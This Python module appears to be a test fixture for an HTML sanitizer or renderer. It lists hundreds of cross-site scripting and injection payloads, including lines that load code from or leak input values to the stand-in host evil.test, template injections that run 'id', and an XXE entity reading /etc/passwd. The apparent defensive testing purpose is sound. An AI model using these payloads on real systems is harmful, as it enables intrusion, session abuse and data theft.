"""Texts that try to become markup, script or requests; one a line, each a known way in."""

from __future__ import annotations

_LINES = r'''
<script>alert(1)</script>
</textarea><script>alert(1)</script>
</title><script>alert(1)</script>
</mark><script>alert(1)</script>
</svg><script>alert(1)</script>
</style><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script/src=https://evil.test/x.js></script>
<script src="//evil.test/x.js"></script>
<script>import('https://evil.test/x.js')</script>
<script type=module>alert(1)</script>
<img src=x onerror=alert(1)>
<img/src=x/onerror=alert(1)>
<img src="https://evil.test/pixel.png">
<img srcset="https://evil.test/a.png 1x">
<IMG """><SCRIPT>alert(1)</SCRIPT>">
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"/>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math href="javascript:alert(1)">click</math>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe src="https://evil.test/"></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">click</a>
<a href="&#106;avascript:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="https://evil.test/" ping="https://evil.test/ping">click</a>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<video><source onerror=alert(1)></video>
<video poster="https://evil.test/poster.png"></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<meta http-equiv="refresh" content="0;url=https://evil.test/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<base href="https://evil.test/">
<link rel=stylesheet href="https://evil.test/x.css">
<link rel=prefetch href="https://evil.test/x">
<style>@import 'https://evil.test/x.css';</style>
<style>*{background:url(https://evil.test/x.png)}</style>
<div style="background:url(https://evil.test/x.png)">x</div>
<div style="width:expression(alert(1))">x</div>
<form action="https://evil.test/"><button>Read</button></form>
<button formaction="javascript:alert(1)">Read</button>
<input type=image src=x onerror=alert(1)>
<template shadowrootmode=open><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><script>alert(1)</script>
<!--<img src="--><img src=x onerror=alert(1)//">
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
{{7*7}}{{config}}{% raw %}{{ request.__class__.__mro__ }}{% endraw %}
${alert(1)}#{alert(1)}<%= alert(1) %>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
" autofocus onfocus=alert(1) x="
` onmouseover=alert(1) `
javascript:alert(1)
data:text/html,<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
＜script＞alert(1)＜/script＞
'''  # noqa: RUF001 - full-width brackets are the point of the last line

_MORE_LINES = r"""
jaVasCript:/*-/*`/*\`/*'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\x3csVg/<sVg/oNloAd=alert(1)//>\x3e
'">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\></|\><plaintext/onmouseover=prompt(1)>
" onclick=alert(1)//<button ' onclick=alert(1)//> */ alert(1)//
'"--></style></script><svg oNload=alert(1)>
"'><img src=x onerror=alert(1)><!--
</select></option></optgroup><img src=x onerror=alert(1)>
</button></form></fieldset><form action="//evil.test/"><input name=csrf>
</time></td></tr></table><script>alert(1)</script>
</bdi></a></h2></li></ul><svg onload=alert(1)>
</q></blockquote></dd></dl><img src=x onerror=alert(1)>
</summary></details><details open ontoggle=alert(1)>
</option><option value="x" selected onclick=alert(1)>x
</body></html><script>alert(1)</script>
</head><body onload=alert(1)>
<math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>
<svg><title><a id="</title><img src=x onerror=alert(1)>"></a></svg>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><style></noframes><img src=x onerror=alert(1)></style>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<table><td><svg><desc><td><style><img src=x onerror=alert(1)></style>
<img src="x` `<script>alert(1)</script>"` `>
<a href="x" id="`onmouseover=alert(1)`">x</a>
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#x3c;svg/onload=alert(1)&#x3e;
&#0000060script&#0000062alert(1)&#0000060/script&#0000062
&quot; onmouseover=&quot;alert(1)
&apos; onfocus=&apos;alert(1)&apos; autofocus=&apos;
&Tab;javascript&colon;alert&lpar;1&rpar;
%253Cscript%253Ealert(1)%253C/script%253E
%22%3E%3Csvg%20onload%3Dalert(1)%3E
\x3cscript\x3ealert(1)\x3c/script\x3e
\74script\76alert(1)\74/script\76
<img srcset="x, https://evil.test/b.png 2x" onerror=alert(1)>
<picture><source srcset="https://evil.test/c.png"><img src=x onerror=alert(1)></picture>
<img src=x loading=lazy onerror=alert(1) lowsrc="https://evil.test/l.png">
<img src=x:x onerror=alert(1) dynsrc="javascript:alert(1)">
<input type=hidden name=lease value=x><input type=hidden name=version value=0>
<input form=decision name=rating type=radio value=1 checked>
<button form=decision name=then value=next autofocus onfocus=alert(1)>Save</button>
<div hx-get="https://evil.test/" hx-trigger="load">x</div>
<div hx-get="/review" hx-trigger="load" hx-target="body">x</div>
<div data-hx-get="https://evil.test/" data-hx-trigger="load">x</div>
<div hx-post="/logout" hx-trigger="load delay:1ms">x</div>
<div data-hx-post="/logout" data-hx-trigger="revealed">x</div>
<div hx-on:load="alert(1)" hx-on::load="alert(1)">x</div>
<div hx-on="htmx:load: alert(1)">x</div>
<div hx-on--load="alert(1)" data-hx-on:click="alert(1)">x</div>
<div hx-vals='js:{x: alert(1)}' hx-get="/review" hx-trigger="load">x</div>
<div hx-headers='js:{x: alert(1)}' hx-get="/review" hx-trigger="load">x</div>
<div hx-trigger="load[alert(1)]" hx-get="/review">x</div>
<div hx-vars="x:alert(1)" hx-get="/review" hx-trigger="load">x</div>
<div hx-ext="x" hx-boost="true"><a href="https://evil.test/">x</a></div>
<div id="lease" hx-swap-oob="true">x</div>
<input type="hidden" name="lease" value="x" hx-swap-oob="outerHTML:#decision input[name=lease]">
<template hx-swap-oob="beforeend:body"><script>alert(1)</script></template>
<hx-partial hx-target="body"><img src=x onerror=alert(1)></hx-partial>
" hx-get="https://evil.test/" hx-trigger="load
' hx-on:load='alert(1)' x='
"}' hx-get='https://evil.test/' hx-trigger='load' x='
{"X-CSRF-Token": "x"}' hx-on:load='alert(1)
{{ visit.csrf }}{{ self._TemplateReference__context }}
{% import os %}{{ os.popen("id").read() }}{% endraw %}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{# {{ config.items() }} #}{%- set x = 1 -%}
${7*7}${{7*7}}#{7*7}*{7*7}@(7*7)
<%= 7*7 %><? system('id') ?><#assign x="freemarker.template.utility.Execute"?new()>
{{constructor.constructor('alert(1)')()}}
[[${T(java.lang.Runtime).getRuntime().exec('id')}]]
<div style="animation:x 1s" onanimationstart=alert(1)>x</div>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationend=alert(1)></b>
<style>:root{--x:url(https://evil.test/v.png)}body{background:var(--x)}</style>
<style>input[value^=a]{background:url(https://evil.test/a)}</style>
<style>@font-face{font-family:x;src:url(https://evil.test/f.woff)}*{font-family:x}</style>
<div style="position:fixed;inset:0;background:red">Approved</div>
<link rel="stylesheet" href="data:text/css,*{display:none}">
<svg><set attributeName=href to="javascript:alert(1)"></svg>
<svg><animate xlink:href=#x attributeName=href values="javascript:alert(1)"/><a id=x><text>x</text></a></svg>
<svg><image href="https://evil.test/i.png" onerror=alert(1)></svg>
<svg><filter><feImage href="https://evil.test/fe.svg"/></filter></svg>
<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler></svg>
<svg><script href="data:text/javascript,alert(1)"/></svg>
<?xml-stylesheet href="javascript:alert(1)"?><root/>
<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>
javascript://%0aalert(1)
JaVaScRiPt:alert(1)
java	script:alert(1)
javascript&#58;alert(1)
vbscript:msgbox(1)
data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>
blob:https://evil.test/1
view-source:javascript:alert(1)
<a href="//evil.test/" target=_top>click</a>
<a href="javascript:void(0)" onauxclick=alert(1) accesskey=s>x</a>
<a id=decision href=x name=decision>x</a><form id=decision name=lease>
<img name=getElementById><img name=cookie><form name=body>
<button popovertarget=x>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>
<object type="text/x-scriptlet" data="https://evil.test/x"></object>
<portal src="https://evil.test/"></portal><fencedframe></fencedframe>
<script type="speculationrules">{"prefetch":[{"urls":["https://evil.test/"]}]}</script>
<script type="importmap">{"imports":{"x":"https://evil.test/x.js"}}</script>
<link rel="modulepreload" href="https://evil.test/m.js"><link rel=dns-prefetch href="//evil.test">
<meta http-equiv="Content-Security-Policy" content="script-src *"><meta name="htmx-config" content='{"allowEval":true}'>
<keygen autofocus onfocus=alert(1)><isindex type=image src=x onerror=alert(1)>
<x contenteditable onbeforeinput=alert(1) autofocus tabindex=0 onfocusin=alert(1)>x</x>
"""  # noqa: E501 - one payload, one line

# Made of characters that are not seen, turn the line, or look like others.
_UNSEEN = (
    "\u202e>/\u202csvg onload=alert(1)<",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "<\u200cscript>alert(1)</\u200cscript>",
    "<script\u00ad>alert(1)</script\u00ad>",
    "\ufeff<script>alert(1)</script>",
    "<svg\u2029onload=alert(1)>",
    "<img src=x on\u0435rror=alert(1)>",
    "\u02c2script\u02c3alert(1)\u02c2/script\u02c3",
    "\u2039img src=x onerror=alert(1)\u203a",
    "\u300cscript\u300dalert(1)",
    "java\u200bscript:alert(1)",
    "\U000e003c\U000e0073\U000e0063\U000e0072<script>alert(1)</script>",
    "a\u0338" * 12 + "<svg/onload=alert(1)>",
    "\u061c\u200f<b onmouseover=alert(1)>\u200e",
    "\u001b[31m<script>alert(1)</script>\u001b[0m",
    "<img src=x onerror\u000b=alert(1)>",
    "\u0130<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<\ufeffimg src=x onerror=alert(1)>\u180e",
)

PAYLOADS = (
    *(line for line in _LINES.splitlines() if line),
    *(line for line in _MORE_LINES.splitlines() if line),
    *_UNSEEN,
    "<scr\u200bipt>alert(1)</script>",
    "<script\u2028>alert(1)</script\u2028>",
    "<img src=x\u00a0onerror=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c",
    "<svg\x0conload=alert(1)>",
)
